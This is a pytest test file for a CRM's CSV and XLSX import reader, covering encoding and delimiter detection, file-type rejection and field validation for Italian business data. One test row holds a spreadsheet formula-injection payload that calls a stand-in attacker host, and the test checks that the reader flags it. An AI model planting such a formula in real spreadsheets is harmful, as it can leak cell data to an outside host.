"""Opening import files (CSV in any encoding and delimiter, XLSX) and reading their rows into fields."""

from __future__ import annotations

import datetime as dt
import os
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from cuore.imports.reading import FileProblem, RowReader, guess_mapping, open_table, validate_mapping
from cuore.imports.reading import files as files_module

UTC = dt.UTC


def write(path: Path, text: str, encoding: str = "utf-8") -> Path:
    path.write_bytes(text.encode(encoding))
    return path


def read_all(path: Path, kind: str):
    table = open_table(path)
    return list(RowReader(table, kind, guess_mapping(kind, table.headers)))


# --- encodings and delimiters --------------------------------------------------------------------

ITALIAN = "Codice;Nome;Città;Prezzo\n1;Niccolò;Forlì;€ 1.234,50\n2;Mosè;Cantù;12,5\n"


@pytest.mark.parametrize(
    ("encoding", "expected"),
    [("utf-8", "utf-8"), ("utf-8-sig", "utf-8-sig"), ("cp1252", "cp1252"), ("utf-16", "utf-16")],
)
def test_the_encoding_is_detected_and_the_text_decoded(tmp_path, encoding, expected):
    path = write(tmp_path / "contacts.csv", ITALIAN, encoding)

    table = open_table(path)

    assert (table.format, table.encoding, table.delimiter) == ("csv", expected, ";")
    assert table.headers == ["Codice", "Nome", "Città", "Prezzo"]
    assert list(table.rows()) == [
        (2, ["1", "Niccolò", "Forlì", "€ 1.234,50"]),
        (3, ["2", "Mosè", "Cantù", "12,5"]),
    ]


def test_cp1252_punctuation_is_told_from_latin_1(tmp_path):
    # Given the curly quotes and dash Word and Excel write on Windows (bytes 0x93, 0x94, 0x96)
    path = write(tmp_path / "notes.csv", "Codice;Note\n1;“Ottimo” – cliente\n", "cp1252")

    table = open_table(path)

    assert table.encoding == "cp1252"
    assert list(table.rows()) == [(2, ["1", "“Ottimo” – cliente"])]


def test_latin_1_without_windows_punctuation(tmp_path):
    path = write(tmp_path / "contacts.csv", "Codice;Nome\n1;Perché è già così\n", "latin-1")

    table = open_table(path)

    assert table.encoding == "latin-1"
    assert list(table.rows()) == [(2, ["1", "Perché è già così"])]


def test_a_file_not_utf_8_only_at_its_end_is_read_as_cp1252(tmp_path):
    # The encoding is decided over the whole file, not over its first 64 KB.
    ascii_rows = "".join(f"{i};Rossi\n" for i in range(10_000))
    path = tmp_path / "contacts.csv"
    path.write_bytes(("Codice;Cognome\n" + ascii_rows).encode() + "99999;Caffè €\n".encode("cp1252"))

    table = open_table(path)

    assert table.encoding == "cp1252"
    assert list(table.rows())[-1] == (10_002, ["99999", "Caffè €"])


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_the_delimiter_is_detected(tmp_path, delimiter):
    rows = [["id", "email", "note"], ["1", "a@example.com", "uno"], ["2", "b@example.com", "due"]]
    path = write(tmp_path / "contacts.csv", "\n".join(delimiter.join(row) for row in rows) + "\n")

    table = open_table(path)

    assert table.delimiter == delimiter
    assert table.headers == ["id", "email", "note"]
    assert [cells for _line, cells in table.rows()] == rows[1:]


def test_decimal_commas_do_not_fool_the_delimiter(tmp_path):
    path = write(tmp_path / "products.csv", "sku;prezzo;costo\nA1;1,50;0,75\nA2;2,50;1,25\nA3;10;5\n")

    assert open_table(path).delimiter == ";"


def test_quoted_cells_keep_delimiters_and_line_breaks_and_lines_count_from_the_file(tmp_path):
    path = write(
        tmp_path / "contacts.csv",
        'id,note,email\r\n1,"first line\r\nsecond, line",a@example.com\r\n2,"said ""hi""",b@example.com\r\n',
    )

    table = open_table(path)

    assert list(table.rows()) == [
        (2, ["1", "first line\r\nsecond, line", "a@example.com"]),
        (4, ["2", 'said "hi"', "b@example.com"]),
    ]


def test_blank_lines_before_the_header_are_skipped_and_line_numbers_stay_the_files(tmp_path):
    path = write(tmp_path / "contacts.csv", "\n\nid;email\n1;a@example.com\n")

    table = open_table(path)

    assert (table.headers, table.header_line) == (["id", "email"], 3)
    assert list(table.rows()) == [(4, ["1", "a@example.com"])]


def test_empty_and_repeated_headers_are_made_unique_and_trailing_empty_ones_dropped(tmp_path):
    path = write(tmp_path / "contacts.csv", "id; ;Email;email;;\n1;x;a@example.com;b@example.com;;\n")

    table = open_table(path)

    assert table.headers == ["id", "col_2", "Email", "email_4"]
    assert list(table.rows()) == [(2, ["1", "x", "a@example.com", "b@example.com", "", ""])]


def test_header_spaces_are_collapsed(tmp_path):
    path = write(tmp_path / "contacts.csv", 'id;" Data di\n nascita ";;\n1;01/02/1990;;\n')

    table = open_table(path)

    assert table.headers == ["id", "Data di nascita"]


# --- XLSX ----------------------------------------------------------------------------------------


def make_xlsx(path: Path, rows: list[list], *, title: str = "Contatti") -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = title
    for row in rows:
        sheet.append(row)
    book.save(path)
    return path


def test_xlsx_cells_become_the_text_a_csv_would_hold(tmp_path):
    path = make_xlsx(
        tmp_path / "orders.xlsx",
        [
            ["Numero ordine", "Data", "Quantità", "Prezzo", "Note"],
            [1001, dt.datetime(2024, 3, 3), 2, 12.5, None],
            [1002, dt.datetime(2024, 3, 3, 10, 30), 1.0, 0.1 + 0.2, "ok"],
            [None, None, None, None, None],
            [1003, dt.date(2024, 1, 2), 1e20, 12.5 + 2e-15, True],
        ],
    )

    table = open_table(path)

    assert (table.format, table.encoding, table.delimiter, table.sheet) == ("xlsx", None, None, "Contatti")
    assert list(table.rows()) == [
        (2, ["1001", "2024-03-03", "2", "12.5", ""]),
        (3, ["1002", "2024-03-03T10:30:00", "1", "0.3", "ok"]),
        (4, ["", "", "", "", ""]),
        (5, ["1003", "2024-01-02", "100000000000000000000", "12.5", "true"]),
    ]


def test_xlsx_is_known_by_its_signature_whatever_its_extension(tmp_path):
    path = make_xlsx(tmp_path / "export.csv", [["id", "email"], [1, "a@example.com"]])

    table = open_table(path)

    assert table.format == "xlsx"
    assert list(table.rows()) == [(2, ["1", "a@example.com"])]


def test_a_csv_named_xlsx_is_read_as_csv(tmp_path):
    path = write(tmp_path / "export.xlsx", "id;email\n1;a@example.com\n")

    assert open_table(path).format == "csv"


def test_xlsx_rows_keep_their_sheet_row_numbers_across_gaps_and_can_be_read_twice(tmp_path):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet["B3"], sheet["C3"] = "id", "email"
    sheet["B4"], sheet["C4"] = 1, "a@example.com"
    sheet["B9"], sheet["C9"] = 2, "b@example.com"
    book.save(tmp_path / "gaps.xlsx")

    with open_table(tmp_path / "gaps.xlsx") as table:
        assert (table.headers, table.header_line) == (["col_1", "id", "email"], 3)
        rows = [(line, cells) for line, cells in table.rows() if any(cells)]
        assert rows == [(4, ["", "1", "a@example.com"]), (9, ["", "2", "b@example.com"])]
        assert [line for line, cells in table.rows() if any(cells)] == [4, 9]


def test_an_empty_active_sheet_gives_way_to_the_first_sheet_with_data(tmp_path):
    book = openpyxl.Workbook()
    book.active.title = "Vuoto"
    data = book.create_sheet("Dati")
    data.append(["id", "email"])
    data.append([1, "a@example.com"])
    book.save(tmp_path / "two.xlsx")

    assert open_table(tmp_path / "two.xlsx").sheet == "Dati"


# --- what is not a table -------------------------------------------------------------------------

PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000") + os.urandom(200)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (PNG, "this is an image, not a table: save it as CSV or XLSX"),
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", "this is a PDF document, not a table: save it as CSV or XLSX"),
        (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500),
            "this is an old Excel file (.xls) or a password-protected workbook, not a table: save it as CSV or XLSX",
        ),
        (
            b"<!DOCTYPE html><html><table><tr><td>1</td></tr></table>",
            "this is a web page (HTML), not a table: save it as CSV or XLSX",
        ),
        (b"", "the file is empty"),
        (b"\n\n  \n", "the file is empty"),
        (b"id;email\n", "the file has a header row but no data rows"),
        (b"id;email\n;\n\n", "the file has a header row but no data rows"),
        (
            b"Mario;Rossi;mario@example.com;3471234567\nAnna;Bianchi;anna@example.com;3331234567\n",
            "the first row holds data, not column names: add a header row",
        ),
    ],
)
def test_not_a_table(tmp_path, content, message):
    path = tmp_path / "upload.csv"
    path.write_bytes(content)

    with pytest.raises(FileProblem) as problem:
        open_table(path)

    assert str(problem.value) == message


def test_random_binary_is_not_a_table(tmp_path):
    path = tmp_path / "random.csv"
    path.write_bytes(bytes(range(256)) * 8 + os.urandom(4096))

    with pytest.raises(FileProblem, match="it looks like a binary file"):
        open_table(path)


def test_binary_without_nul_bytes_is_not_a_table(tmp_path):
    path = tmp_path / "random.csv"
    path.write_bytes(bytes(b for b in range(1, 256) if b not in b"\n\r") * 4)

    with pytest.raises(FileProblem, match="it looks like a binary file"):
        open_table(path)


def test_a_nul_byte_far_into_the_file_is_found(tmp_path):
    path = tmp_path / "contacts.csv"
    path.write_bytes(b"id;email\n" + b"1;a@example.com\n" * 100_000 + b"\x00\x00")

    with pytest.raises(FileProblem, match="binary"):
        open_table(path)


def test_a_zip_that_is_not_xlsx(tmp_path):
    path = tmp_path / "contacts.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("contacts.csv", "id;email\n1;a@example.com\n")

    with pytest.raises(FileProblem) as problem:
        open_table(path)

    assert str(problem.value) == "this is a zip archive, not a table: save it as CSV or XLSX"


def test_a_word_document(tmp_path):
    path = tmp_path / "contacts.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")

    with pytest.raises(FileProblem, match="a Word document"):
        open_table(path)


@pytest.mark.parametrize("damage", ["truncated", "broken workbook"])
def test_an_unreadable_xlsx(tmp_path, damage):
    good = make_xlsx(tmp_path / "good.xlsx", [["id", "email"], [1, "a@example.com"]])
    path = tmp_path / "bad.xlsx"
    if damage == "truncated":
        path.write_bytes(good.read_bytes()[:300])
    else:
        with zipfile.ZipFile(good) as source, zipfile.ZipFile(path, "w") as target:
            for item in source.infolist():
                data = b"<not xml" if item.filename == "xl/workbook.xml" else source.read(item)
                target.writestr(item, data)

    with pytest.raises(FileProblem) as problem:
        open_table(path)

    assert str(problem.value) == "the XLSX file cannot be read (it may be damaged): save it again from Excel"


def test_a_single_column_whose_header_is_no_field(tmp_path):
    path = write(tmp_path / "notes.txt", "Dear customer here are the numbers\nthey are nice\n")

    with pytest.raises(FileProblem) as problem:
        open_table(path)

    assert str(problem.value) == (
        "only one column was found, and its header “Dear customer here are the numbers” is not a field Cuore "
        "knows: separate the columns with , ; tab or |, or save the file as XLSX"
    )


def test_a_single_column_of_a_known_field_is_a_table(tmp_path):
    path = write(tmp_path / "emails.csv", "E-mail\na@example.com\nb@example.com\n")

    table = open_table(path)

    assert table.headers == ["E-mail"]
    assert [cells for _line, cells in table.rows()] == [["a@example.com"], ["b@example.com"]]


def test_a_file_over_the_limit_is_refused_without_being_read(tmp_path, monkeypatch):
    path = tmp_path / "huge.csv"
    with path.open("wb") as handle:
        handle.truncate(2 * 1024**3)  # sparse: no disk used
    monkeypatch.setattr(files_module, "open", _no_open, raising=False)

    with pytest.raises(FileProblem) as problem:
        open_table(path)

    assert str(problem.value) == "the file is 2.0 GB; the largest import is 1.0 GB — split it"


def test_the_limit_can_be_lowered(tmp_path):
    path = write(tmp_path / "contacts.csv", "id;email\n" + "1;a@example.com\n" * 100_000)

    with pytest.raises(FileProblem, match=r"^the file is 1\.5 MB; the largest import is 1\.0 MB — split it$"):
        open_table(path, max_bytes=1024**2)


def _no_open(*args, **kwargs):
    raise AssertionError("the file was opened")


# --- reading rows into fields --------------------------------------------------------------------


def test_an_italian_contacts_file_is_read_into_fields(tmp_path):
    path = write(
        tmp_path / "clienti.csv",
        "Codice cliente;Nome;Cognome;E-mail;Telefono;Data di nascita;CAP;Città;Nazione;Fase;Consenso email;Creato il\n"
        "C1;Mario;Rossi;Mario.Rossi@Example.IT;347 123 4567;03/04/1980;100;Roma;Italia;Cliente;sì;03/04/2024 10:30\n"
        "C2;Anna;Schmidt;anna@example.de;030 1234567;13/12/1975;10115;Berlino;Germania;ex cliente;no;2024-07-01\n",
        "cp1252",
    )

    rows = read_all(path, "contacts")

    assert [(row.line, row.errors) for row in rows] == [(2, []), (3, [])]
    assert rows[0].values == {
        "source_id": "C1",
        "first_name": "Mario",
        "last_name": "Rossi",
        "email": "Mario.Rossi@example.it",
        "phone": "+393471234567",
        "birth_date": dt.date(1980, 4, 3),
        "postal_code": "00100",  # a spreadsheet dropped the zeros of an Italian postal code
        "city": "Roma",
        "country": "IT",
        "lifecycle_stage": "customer",
        "email_consent": True,
        "created_at": dt.datetime(2024, 4, 3, 8, 30, tzinfo=UTC),
    }
    assert rows[1].values["phone"] == "+49301234567"  # read in the row's country
    assert rows[1].values["lifecycle_stage"] == "former_customer"
    assert rows[1].values["created_at"] == dt.datetime(2024, 6, 30, 22, 0, tzinfo=UTC)


def test_month_first_dates_are_recognised_per_column(tmp_path):
    path = write(
        tmp_path / "contacts.csv",
        "id,birth date,created\n1,12/31/1980,03/04/2024\n2,01/02/1990,25/04/2024\n3,02/03/1970,05/06/2024\n",
    )

    table = open_table(path)
    reader = RowReader(table, "contacts", guess_mapping("contacts", table.headers))
    rows = list(reader)

    assert reader.day_first == {"birth date": False, "created": True}
    assert [row.values["birth_date"] for row in rows] == [
        dt.date(1980, 12, 31),
        dt.date(1990, 1, 2),
        dt.date(1970, 2, 3),
    ]
    assert rows[0].values["created_at"] == dt.datetime(2024, 4, 2, 22, 0, tzinfo=UTC)  # midnight in Rome


def test_a_date_against_its_columns_order_is_an_error(tmp_path):
    path = write(tmp_path / "contacts.csv", "id;data di nascita\n1;25/12/1980\n2;26/12/1980\n3;12/25/1980\n")

    rows = read_all(path, "contacts")

    assert rows[2].errors == [("data di nascita", "not a date: 12/25/1980 (this column's dates are day/month/year)")]


@pytest.mark.parametrize(
    ("delimiter", "cells", "expected"),
    [
        (";", ["1.234,50", "1,234"], [Decimal("1234.50"), Decimal("1.234")]),  # a decimal comma
        (",", ['"1,234.50"', '"1,234"'], [Decimal("1234.50"), Decimal("1234")]),  # a decimal point
        (";", ["1.234", "2.500"], [Decimal("1234"), Decimal("2500")]),  # no evidence: ";" means Italian habits
        (",", ["1.234", "2.500"], [Decimal("1.234"), Decimal("2.500")]),  # no evidence: "," means a decimal point
    ],
)
def test_decimal_commas_are_guessed_once_per_file(tmp_path, delimiter, cells, expected):
    lines = [delimiter.join(["sku", "name", "price"])]
    lines += [delimiter.join([f"A{i}", "Widget", cell]) for i, cell in enumerate(cells)]
    path = write(tmp_path / "products.csv", "\n".join(lines) + "\n")

    rows = read_all(path, "products")

    assert [row.values["price"] for row in rows] == expected


def test_an_xlsx_keeps_its_numbers_exact(tmp_path):
    path = make_xlsx(
        tmp_path / "products.xlsx",
        [
            ["Codice articolo", "Descrizione", "Prezzo", "Costo", "Attivo"],
            ["A1", "Vite", 1.234, 0.5, "sì"],
            ["A2", "Dado", 12, 7.25, None],
        ],
    )

    rows = read_all(path, "products")

    assert [row.values for row in rows] == [
        {"sku": "A1", "name": "Vite", "price": Decimal("1.234"), "cost": Decimal("0.5"), "active": True},
        {"sku": "A2", "name": "Dado", "price": Decimal("12"), "cost": Decimal("7.25"), "active": None},
    ]


def test_every_bad_cell_is_reported_with_its_header_and_reason(tmp_path):
    path = write(
        tmp_path / "contacts.csv",
        "id;Nome;email;telefono;data di nascita;nazione\n"
        '1;=HYPERLINK("http://evil.example/?x="&A1;mario@@example.com;12;31/02/2024;Narnia\n'
        "2;Anna;anna@example.com;+39 347 1234567;01/02/1990;IT\n",
    )

    rows = read_all(path, "contacts")

    assert rows[0].errors == [
        ("Nome", 'looks like a formula: =HYPERLINK("http://evil.examp…'),
        ("email", "not an email address: mario@@example.com"),
        ("telefono", "not a phone number: 12"),
        ("data di nascita", "not a date: 31/02/2024"),
        ("nazione", "not a country: Narnia"),
    ]
    assert rows[0].values == {"source_id": "1"}
    assert rows[1].ok


def test_too_long_text_and_control_characters(tmp_path):
    path = write(tmp_path / "contacts.csv", f"id;cognome;note\n1;{'x' * 101};ok\n2;Rossi;bell\x07\n")

    rows = read_all(path, "contacts")

    assert rows[0].errors == [("cognome", "too long: 101 characters, at most 100")]
    assert rows[1].errors == [("note", "contains control characters")]


def test_required_fields_and_empty_rows(tmp_path):
    path = write(
        tmp_path / "accounts.csv", "id;ragione sociale;partita iva;denominazione\n1;ACME S.r.l.;;\n\n;;;\n2;;;Beta\n"
    )

    rows = read_all(path, "accounts")

    assert [(row.line, row.errors) for row in rows] == [(2, [("denominazione", "required")]), (5, [])]
    assert rows[0].values == {"source_id": "1", "legal_name": "ACME S.r.l.", "vat_number": None, "name": None}


def test_duplicate_ids_are_reported_on_their_second_row(tmp_path):
    path = write(
        tmp_path / "contacts.csv",
        "id;email\n123;a@example.com\n7;b@example.com\n123;c@example.com\n123;d@example.com\n",
    )

    rows = read_all(path, "contacts")

    assert [row.errors for row in rows] == [
        [],
        [],
        [("id", "duplicate id 123, first on line 2")],
        [("id", "duplicate id 123, first on line 2")],
    ]


def test_duplicate_ids_are_found_however_far_apart(tmp_path):
    lines = ["id;email"] + [f"{i};u{i}@example.com" for i in range(20_000)] + ["17;again@example.com"]
    path = write(tmp_path / "contacts.csv", "\n".join(lines) + "\n")

    rows = read_all(path, "contacts")

    assert [(row.line, row.errors) for row in rows if row.errors] == [
        (20_002, [("id", "duplicate id 17, first on line 19")])
    ]


def test_order_lines_share_their_orders_id(tmp_path):
    path = write(
        tmp_path / "orders.csv",
        "Numero ordine;Codice cliente;Data ordine;Codice articolo;Quantità;Prezzo unitario;Stato;Canale\n"
        "A-1;C1;03/03/2024;SKU1;2;10,50;evaso;online\n"
        "A-1;C1;03/03/2024;SKU2;1;3;evaso;online\n",
    )

    rows = read_all(path, "orders")

    assert [row.errors for row in rows] == [[], []]
    assert rows[0].values == {
        "source_id": "A-1",
        "customer_source_id": "C1",
        "order_date": dt.datetime(2024, 3, 2, 23, 0, tzinfo=UTC),
        "sku": "SKU1",
        "quantity": Decimal("2"),
        "unit_price": Decimal("10.50"),
        "status": "fulfilled",
        "channel": "web",
    }


def test_interactions_choices_in_italian(tmp_path):
    path = write(
        tmp_path / "interactions.csv",
        "id;id cliente;canale;direzione;data e ora;oggetto\n"
        "1;C1;Telefonata;In entrata;03/03/2024 10:00;Richiesta info\n"
        "2;C1;visita;in uscita;03/03/2024 11:00;Demo\n"
        "3;C1;piccione;boh;03/03/2024 12:00;?\n",
    )

    rows = read_all(path, "interactions")

    assert [(row.values.get("channel"), row.values.get("direction")) for row in rows] == [
        ("phone", "in"),
        ("meeting", "out"),
        (None, None),
    ]
    assert rows[2].errors == [
        ("canale", "not one of the choices: piccione"),
        ("direzione", "not one of the choices: boh"),
    ]


def test_short_rows_are_padded_and_long_rows_reported(tmp_path):
    path = write(
        tmp_path / "contacts.csv",
        "id;nome;cognome\n1;Mario\n2;Anna;Bianchi;extra;more\n3;Luca;Verdi;;\n",
    )

    rows = read_all(path, "contacts")

    assert [(row.line, row.values, row.errors) for row in rows] == [
        (2, {"source_id": "1", "first_name": "Mario", "last_name": None}, []),
        (
            3,
            {"source_id": "2", "first_name": "Anna", "last_name": "Bianchi"},
            [("", "the row has 5 cells, the header 3")],
        ),
        (4, {"source_id": "3", "first_name": "Luca", "last_name": "Verdi"}, []),  # trailing empty cells are no data
    ]
    assert [row.cells for row in rows] == [
        ["1", "Mario", ""],
        ["2", "Anna", "Bianchi", "extra", "more"],
        ["3", "Luca", "Verdi", "", ""],
    ]


def test_placeholders_for_nothing(tmp_path):
    path = write(tmp_path / "contacts.csv", "id;cognome;data di nascita;email\n1;NULL;-;#N/A\n2;-;n.d.;NULL\n")

    rows = read_all(path, "contacts")

    assert [row.values for row in rows] == [
        {"source_id": "1", "last_name": None, "birth_date": None, "email": None},
        {"source_id": "2", "last_name": "-", "birth_date": None, "email": None},
    ]
    # Read as nothing, not as a name: the first row has none, which a contact needs.
    assert [row.errors for row in rows] == [[("cognome", "a name is required: first or last name")], []]


def test_a_contact_row_needs_a_first_or_a_last_name(tmp_path):
    path = write(tmp_path / "contacts.csv", "id;nome;cognome;email\n1;;;a@example.com\n2;Anna;;\n3;;Verdi;\n")

    rows = read_all(path, "contacts")

    assert [row.errors for row in rows] == [[("nome", "a name is required: first or last name")], [], []]
    assert validate_mapping("contacts", {"id": "source_id", "email": "email"}) == [
        "First name / Last name: at least one is required, choose the column that holds it"
    ]


def test_preview_reads_the_first_rows_as_the_import_will(tmp_path):
    path = write(tmp_path / "contacts.csv", "id;email\n" + "".join(f"{i};u{i}@example.com\n" for i in range(50)))
    table = open_table(path)
    reader = RowReader(table, "contacts", guess_mapping("contacts", table.headers))

    preview = reader.preview(3)

    assert [(row.line, row.values) for row in preview] == [
        (2, {"source_id": "0", "email": "u0@example.com"}),
        (3, {"source_id": "1", "email": "u1@example.com"}),
        (4, {"source_id": "2", "email": "u2@example.com"}),
    ]
    assert len(list(reader)) == 50


def test_a_mapping_the_reader_cannot_follow_is_a_programming_error(tmp_path):
    table = open_table(write(tmp_path / "contacts.csv", "id;email;mail\n1;a@example.com;b@example.com\n"))

    with pytest.raises(ValueError, match="not a field of contacts"):
        RowReader(table, "contacts", {"id": "source_id", "email": "shoe_size"})
    with pytest.raises(ValueError, match="more than one column"):
        RowReader(table, "contacts", {"email": "email", "mail": "email"})
    with pytest.raises(ValueError, match="does not have"):
        RowReader(table, "contacts", {"telefono": "phone"})
    with pytest.raises(ValueError, match="unknown import kind"):
        RowReader(table, "invoices", {})


def test_an_unclosed_quote_is_a_file_problem_with_its_line(tmp_path):
    path = write(tmp_path / "contacts.csv", 'id;note\n1;ok\n2;"' + "x" * 200_000 + "\n3;ok\n")
    table = open_table(path)

    with pytest.raises(FileProblem, match=r"^line 3 cannot be read \(field larger than field limit"):
        list(table.rows())


def test_a_file_without_line_breaks_is_not_read_whole(tmp_path, monkeypatch):
    monkeypatch.setattr(files_module, "MAX_LINE", 1024)
    path = write(tmp_path / "contacts.csv", "id;email\n1;a@example.com\n2;" + "x" * 5000 + "\n")
    table = open_table(path)

    with pytest.raises(FileProblem, match=r"^line 3 is longer than 1 KB: is this a table\?$"):
        list(table.rows())


def test_excels_separator_hint_line_names_the_delimiter_and_is_no_header(tmp_path):
    path = write(tmp_path / "contacts.csv", "sep=;\r\nid;nome,cognome\r\n1;Mario,Rossi\r\n")

    table = open_table(path)

    assert (table.delimiter, table.headers, table.header_line) == (";", ["id", "nome,cognome"], 2)
    assert list(table.rows()) == [(3, ["1", "Mario,Rossi"])]
